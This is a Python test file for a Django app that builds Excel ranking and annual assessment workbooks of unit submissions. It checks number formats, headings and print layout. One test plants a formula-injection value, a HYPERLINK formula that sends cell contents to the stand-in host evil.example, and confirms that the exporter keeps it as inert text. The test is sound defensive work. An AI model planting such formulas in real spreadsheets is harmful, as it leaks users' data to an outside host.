"""The ranking and assessment workbooks read back with openpyxl: numbers are numbers with number
formats, and each sheet prints as a 通报 (title row, A4, landscape where wide, heading repeated,
print area, one page wide) without editing (issue 12, item 9)."""

from __future__ import annotations

import io
from datetime import datetime, timedelta, timezone

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from tests.submissions.helpers import new_item
from yuqing.submissions import workflow
from yuqing.submissions.assessment import annual_sheet
from yuqing.submissions.excel import assessment_workbook, ranking_workbook
from yuqing.submissions.periods import parse_period
from yuqing.submissions.rankings import person_rows, ranked, unit_rows
from yuqing.units.models import Unit

pytestmark = pytest.mark.django_db
A4 = 9  # the paper size code of the Office Open XML standard
NOV = datetime(2026, 11, 5, 2, tzinfo=timezone.utc)


def _adopted(office, when=NOV):
    item = new_item(office)
    workflow.submit(office.officer_a, item, now=when)
    workflow.take(office.editor, item, now=when)
    return workflow.adopt(office.editor, item, now=when + timedelta(hours=1))


def _submitted(office, when=NOV):
    workflow.submit(office.officer_a, new_item(office), now=when)


def _row(sheet, name: str, first: int):
    return next(line for line in sheet.iter_rows(min_row=first) if line[1].value == name)


def _heading(sheet, row: int) -> list:
    return [c.value for c in sheet[row]]


def _prints_as_a_bulletin(sheet, title: str, heading_rows: str, landscape: bool) -> None:
    assert sheet["A1"].value == title and "A1" in {r.coord.split(":")[0] for r in sheet.merged_cells.ranges}
    assert sheet.print_title_rows == heading_rows  # the heading on every page
    assert sheet.print_area == f"'{sheet.title}'!$A$1:${get_column_letter(sheet.max_column)}${sheet.max_row}"
    setup = sheet.page_setup
    assert setup.paperSize == A4 and setup.orientation == ("landscape" if landscape else "portrait")
    assert sheet.sheet_properties.pageSetUpPr.fitToPage and (setup.fitToWidth, setup.fitToHeight) == (1, 0)
    assert "&P" in sheet.oddFooter.center.text


def test_the_ranking_stores_numbers_and_prints(office):
    _adopted(office)
    _submitted(office)
    november = parse_period("2026-11")
    units = Unit.objects.all()
    book = load_workbook(io.BytesIO(ranking_workbook(november.label, ranked(unit_rows(november, units)),
                                                     ranked(person_rows(november, units)))))
    sheet = book["单位排名"]
    head = _heading(sheet, 2)
    assert head[:6] == ["名次", "名称", "所属单位", "报送（条）", "采用（条）", "采用率"]
    row = _row(sheet, "甲县委宣传部", 3)
    assert [c.value for c in row[:5]] == [1, "甲县委宣传部", "示例市委宣传部", 2, 1]
    rate, points = row[head.index("采用率")], row[head.index("积分")]
    assert rate.data_type == "n" and rate.value == pytest.approx(0.5) and rate.number_format == "0.0%"
    assert points.data_type == "n" and points.number_format == "0.0"
    assert all(c.data_type == "n" for c in row[3:])  # every count a number, none a text
    _prints_as_a_bulletin(sheet, "2026年11月信息报送情况通报（单位）", "$2:$2", landscape=True)
    _prints_as_a_bulletin(book["个人排名"], "2026年11月信息报送情况通报（个人）", "$2:$2", landscape=True)


def test_the_assessment_gives_each_month_two_number_columns(office):
    _adopted(office)
    _adopted(office, when=datetime(2026, 3, 3, 2, tzinfo=timezone.utc))
    _submitted(office, when=datetime(2026, 3, 10, 2, tzinfo=timezone.utc))
    units = Unit.objects.all()
    book = load_workbook(io.BytesIO(assessment_workbook(2026, annual_sheet(2026, units), annual_sheet(2026, units, True))))
    assert book.sheetnames == ["单位考核", "单位逐月", "个人考核", "个人逐月"]
    monthly = book["单位逐月"]
    groups, heads = _heading(monthly, 2), _heading(monthly, 3)
    march = groups.index("3月")
    assert heads[march:march + 2] == ["报送", "采用"] and groups[march + 1] is None  # 3月 over its two columns
    row = _row(monthly, "甲县委宣传部", 4)
    assert [row[march].value, row[march + 1].value] == [2, 1] and row[march].data_type == "n"
    assert [row[groups.index("全年")].value, row[groups.index("全年") + 1].value] == [3, 2]
    _prints_as_a_bulletin(monthly, "2026年度逐月报送采用情况（单位）", "$2:$3", landscape=True)

    summary = book["单位考核"]
    groups, heads = _heading(summary, 2), _heading(summary, 3)
    row = _row(summary, "甲县委宣传部", 4)
    rate = row[groups.index("采用率")]
    assert rate.value == pytest.approx(2 / 3) and rate.number_format == "0.0%"
    needs = groups.index("信息需求")
    assert heads[needs:needs + 2] == ["答复", "征集"] and row[needs].data_type == row[needs + 1].data_type == "n"
    assert not any(isinstance(c.value, str) and "/" in c.value for line in summary.iter_rows(min_row=4) for c in line)
    _prints_as_a_bulletin(summary, "2026年度信息工作考核表（单位）", "$2:$3", landscape=True)
    assert "征集" not in _heading(book["个人考核"], 3)  # a person is not asked: units are


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'


def _live_formulas(data: bytes) -> list[str]:
    """Cells Excel would evaluate: formula elements in any sheet of the workbook."""
    import re
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        return [f for n in sheets for f in re.findall(r"<f>.*?</f>", archive.read(n).decode())]


def test_names_that_look_like_formulas_stay_text_in_both_workbooks(office):
    _adopted(office)
    Unit.objects.filter(name="甲县委宣传部").update(name=HOSTILE)
    units = Unit.objects.all()
    november = parse_period("2026-11")
    ranking = ranking_workbook(november.label, ranked(unit_rows(november, units)), ranked(person_rows(november, units)))
    assessment = assessment_workbook(2026, annual_sheet(2026, units), annual_sheet(2026, units, True))
    for data in (ranking, assessment):
        assert _live_formulas(data) == []
        book = load_workbook(io.BytesIO(data))
        cells = [c for sheet in book for line in sheet.iter_rows() for c in line if c.value == HOSTILE]
        assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)  # shown as written, kept text
